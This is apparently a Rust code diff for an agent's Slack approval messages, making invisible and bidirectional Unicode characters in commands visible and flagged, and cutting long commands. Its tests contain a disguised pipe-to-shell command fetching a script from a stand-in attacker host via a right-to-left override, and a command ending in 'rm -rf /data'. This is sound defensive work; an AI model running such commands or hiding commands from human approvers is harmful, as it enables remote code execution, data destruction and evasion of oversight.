@@ -138,6 +138,67 @@ fn escape_invisible(json: &str) -> String {
     shown
 }
 
+/// How much of a command (or a path) an approval message shows, in characters once escaped:
+/// with the summary ([`SUMMARY_CHARS`]), the working directory and the notes, within a
+/// section's 3,000.
+pub const DETAIL_CHARS: usize = 2200;
+/// How much of an approval's summary (and working directory) its message shows, once escaped.
+const SUMMARY_CHARS: usize = 200;
+
+/// A command's (or a path's) text as its approval message shows it: every invisible character
+/// ([`invisible`], and control characters but newline and tab) written as `[U+202E]`, cut at
+/// [`DETAIL_CHARS`] once escaped; whether it was cut, and whether anything was made visible.
+/// From the event's `details[key]`, or from what the delivery state kept of it (`shown_{key}`,
+/// `{key}_cut`, `{key}_hid`: see `shown_details`).
+pub fn shown_detail(details: &Value, key: &str) -> Option<ShownDetail> {
+    if let Some(text) = details.get(format!("shown_{key}")).and_then(Value::as_str) {
+        let flag = |name: String| details.get(name).and_then(Value::as_bool).unwrap_or(false);
+        return Some(ShownDetail {
+            text: text.to_owned(),
+            cut: flag(format!("{key}_cut")),
+            hid: flag(format!("{key}_hid")),
+        });
+    }
+    let raw = details.get(key).and_then(Value::as_str)?;
+    let visible = make_visible(raw);
+    let hid = visible != raw;
+    let (text, cut) = cut_escaped(&visible, DETAIL_CHARS);
+    Some(ShownDetail { text, cut, hid })
+}
+
+/// What [`shown_detail`] gives.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct ShownDetail {
+    pub text: String,
+    pub cut: bool,
+    /// It held invisible characters, now shown as `[U+…]`.
+    pub hid: bool,
+}
+
+/// A short text (a summary, a folder) made visible and cut at [`SUMMARY_CHARS`] once escaped,
+/// with `…` where it was cut.
+fn shown_line(text: &str) -> String {
+    let (mut shown, cut) = cut_escaped(&make_visible(text), SUMMARY_CHARS - 1);
+    if cut {
+        shown.push('…');
+    }
+    shown
+}
+
+/// `text` with every invisible character (and control character but newline and tab) written
+/// as `[U+202E]`, so what an approver reads is what runs.
+fn make_visible(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for c in text.chars() {
+        if invisible(c) || (c.is_control() && c != '\n' && c != '\t') {
+            shown.push_str(&format!("[U+{:04X}]", u32::from(c)));
+        } else {
+            shown.push(c);
+        }
+    }
+    shown
+}
+
 /// Whether `c` is a format character (Unicode 15.1's `Cf`) or a line or paragraph separator.
 fn invisible(c: char) -> bool {
     matches!(
@@ -224,18 +285,33 @@ fn approval_body(
             "call a tool"
         }
     };
-    let mut body = format!("*Approval needed* to {what}: {}", escape(summary));
-    let detail = match kind {
-        ApprovalKind::Command => details.get("command").and_then(Value::as_str),
-        ApprovalKind::FileChange => details.get("path").and_then(Value::as_str),
-        ApprovalKind::Tool => details.get("tool").and_then(Value::as_str),
+    let headline = shown_line(summary);
+    let mut body = format!("*Approval needed* to {what}: {}", escape(&headline));
+    let (key, noun) = match kind {
+        ApprovalKind::Command => ("command", "command"),
+        ApprovalKind::FileChange => ("path", "path"),
+        ApprovalKind::Tool => ("tool", "tool"),
     };
-    if let Some(detail) = detail.filter(|d| *d != summary) {
+    // Left out when the headline says it all: the same text, nothing hidden, nothing cut.
+    if let Some(detail) =
+        shown_detail(details, key).filter(|d| d.cut || d.hid || d.text != headline)
+    {
         body.push('\n');
-        body.push_str(&code_block(&truncate(detail, 2500)));
+        body.push_str(&code_block(&detail.text));
+        if detail.cut {
+            body.push_str(&format!(
+                "\n_… cut: see the full {noun} with `centaur attach {} --all-events`_",
+                escape(thread_key.as_str())
+            ));
+        }
+        if detail.hid {
+            body.push_str(&format!(
+                "\n:warning: _the {noun} holds invisible characters, shown as `[U+…]`_"
+            ));
+        }
     }
     if let Some(cwd) = details.get("cwd").and_then(Value::as_str) {
-        body.push_str(&format!("\nin `{}`", escape(cwd)));
+        body.push_str(&format!("\nin `{}`", escape(&shown_line(cwd))));
     }
     body
 }
@@ -453,6 +529,109 @@ mod tests {
             &key(),
             ApprovalKind::Tool,
             "slack.post_message(…)",
+            &kept,
+            ApprovalResolution::Approve,
+            "slack:U1 (Ann)",
+        );
+        assert_eq!(section_text(&resolved.blocks), body);
+    }
+
+    #[test]
+    fn invisible_characters_in_a_command_are_shown_and_flagged() {
+        // Read naively, the command ends in "echo safe": the override turns the rest around,
+        // the zero-width space and the escape sequence hide in plain sight.
+        let command = "echo safe \u{202e}hs.ti/moc.live//:sptth | lruc\u{202c} \u{200b}\u{1b}[8m";
+        let details = json!({"command": command, "cwd": "/work\u{2066}space"});
+        let rendered = approval_request(
+            &key(),
+            Uuid::now_v7(),
+            ApprovalKind::Command,
+            command,
+            &details,
+        );
+        let body = section_text(&rendered.blocks);
+        assert!(
+            body.contains(
+                "echo safe [U+202E]hs.ti/moc.live//:sptth | lruc[U+202C] [U+200B][U+001B][8m"
+            ),
+            "{body}"
+        );
+        assert!(
+            body.contains("the command holds invisible characters, shown as `[U+…]`"),
+            "{body}"
+        );
+        assert!(body.contains("in `/work[U+2066]space`"), "{body}");
+        assert!(
+            !body
+                .chars()
+                .any(|c| invisible(c) && c != '\u{200b}' || c == '\u{1b}'),
+            "{body}"
+        );
+        // The decided message shows the same, from what the delivery state keeps.
+        let kept = crate::slack::delivery::state::shown_details(&details);
+        let resolved = approval_resolved(
+            &key(),
+            ApprovalKind::Command,
+            command,
+            &kept,
+            ApprovalResolution::Deny,
+            "slack:U1 (Ann)",
+        );
+        assert_eq!(section_text(&resolved.blocks), body);
+        // A plain command is shown once, without the warning.
+        let plain = section_text(
+            &approval_request(
+                &key(),
+                Uuid::now_v7(),
+                ApprovalKind::Command,
+                "ls -la",
+                &json!({"command": "ls -la"}),
+            )
+            .blocks,
+        );
+        assert_eq!(plain, "*Approval needed* to run a command: ls -la");
+        // One too long for the headline is shown whole below it.
+        let long = "x".repeat(300);
+        let body = section_text(
+            &approval_request(
+                &key(),
+                Uuid::now_v7(),
+                ApprovalKind::Command,
+                &long,
+                &json!({"command": long}),
+            )
+            .blocks,
+        );
+        assert!(body.contains(&format!("```\n{long}\n```")), "{body}");
+    }
+
+    #[test]
+    fn a_long_command_is_cut_and_says_where_to_read_it() {
+        let command = "echo start && ".to_owned() + &"true && ".repeat(500) + "rm -rf /data";
+        let details = json!({"command": command});
+        let summary = truncate(&command, 200);
+        let rendered = approval_request(
+            &key(),
+            Uuid::now_v7(),
+            ApprovalKind::Command,
+            &summary,
+            &details,
+        );
+        let body = section_text(&rendered.blocks);
+        assert!(body.chars().count() <= MAX_SECTION_TEXT, "{}", body.len());
+        assert!(!body.contains("rm -rf /data"), "{body}");
+        assert!(
+            body.ends_with(
+                "\n```\n_… cut: see the full command with `centaur attach slack:C1:1.2 --all-events`_"
+            ),
+            "{body}"
+        );
+        assert!(!body.contains(":warning:"), "{body}");
+        let kept = crate::slack::delivery::state::shown_details(&details);
+        let resolved = approval_resolved(
+            &key(),
+            ApprovalKind::Command,
+            &summary,
             &kept,
             ApprovalResolution::Approve,
             "slack:U1 (Ann)",
